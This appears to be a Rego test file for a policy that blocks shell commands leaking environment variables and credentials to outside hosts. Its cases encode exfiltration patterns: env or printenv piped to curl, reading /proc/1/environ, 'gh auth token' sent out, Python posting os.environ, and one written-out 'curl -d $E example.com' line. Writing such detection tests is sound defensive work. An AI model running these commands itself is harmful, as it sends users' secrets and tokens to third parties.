package hookguard.rules.exfil.environment_test

import data.hookguard.lib.given
import data.hookguard.rules.exfil.environment

piped(first, host) := object.union(
	given.commands([first, {"program": "curl"}]),
	{"shell": {"pipelines": [[0, 1]]}, "urls": [{"host": host, "command": 1}]},
)

test_the_environment_is_denied if {
	every program in ["env", "printenv", "set", "export", "declare"] {
		count(environment.deny) == 1 with input as piped({"program": program}, "example.com")
		count(environment.deny) == 0 with input as piped({"program": program}, "localhost")
		count(environment.deny) == 0 with input as piped({"program": program, "operands": ["X"]}, "example.com")
	}
}

test_by_the_kernels_file if {
	document := object.union(piped({"program": "cat"}, "example.com"), {"paths": [given.path({"absolute": "/proc/1/environ"})]})
	count(environment.deny) == 1 with input as document
}

test_in_a_variable if {
	document := object.union(
		given.commands([
			{"program": "env", "span": [4, 7], "via": ["substitution"]},
			{"program": "", "span": [0, 8], "assignments": [{"name": "E", "value": null}]},
			{"program": "curl", "text": "curl -d $E example.com"},
		]),
		{"urls": [{"host": "example.com", "command": 2}]},
	)
	count(environment.deny) == 1 with input as document
}

test_password_stores if {
	count(environment.deny) == 1 with input as piped({"program": "gh", "subcommand": ["auth", "token"]}, "example.com")
	count(environment.deny) == 0 with input as piped({"program": "gh", "subcommand": ["issue", "list"]}, "example.com")
}

code(text) := object.union(
	given.commands([{"program": "python3", "code": {"language": "python", "text": text}}]),
	{"urls": [{"host": "example.com", "command": 0}]},
)

test_code if {
	count(environment.deny) == 1 with input as code("post(u, dict(os.environ))")
	count(environment.deny) == 0 with input as code("post(u, os.environ['A'])")
}
